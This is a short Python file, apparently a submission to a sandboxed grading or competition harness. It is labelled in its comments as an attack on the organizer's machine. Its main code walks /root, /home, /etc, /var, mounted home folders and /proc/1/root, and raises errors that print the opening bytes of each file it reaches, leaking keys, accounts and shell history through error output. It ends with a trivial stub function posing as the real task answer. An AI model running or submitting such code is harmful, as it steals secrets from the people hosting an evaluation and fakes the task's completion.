# ATTACK [files]: reads the organizer's home folder, accounts, keys and shell history
# STOPPED BY: a list of system folders is all that exists; of /etc a few files, nothing of /home and /var
# WORKS AGAINST: no sandbox
import os
from pathlib import Path

homes = {Path("/root"), Path("/home"), Path("/etc"), Path("/var"), Path("/srv"), Path("/mnt"), Path("/proc/1/root/root")}
for line in Path("/proc/self/mountinfo").read_text().splitlines():
    homes |= {Path(*Path(word).parts[:3]) for word in line.split() if Path(word).parts[1:2] in (("home",), ("root",))}
system = ("alternatives", "fonts", "ld.so", "localtime", "mime.types")
for place in homes:
    for folder, _, files in os.walk(place):
        for path in [Path(folder, name) for name in files if not Path(folder, name).is_symlink()]:
            if place == Path("/etc") and path.relative_to(place).parts[0].startswith(system):
                continue
            raise RuntimeError(f"REACHED {path}: {path.read_bytes()[:200]!r}")


def your_select_indices(targets, losses):
    return [list(range(len(targets)))] * 2
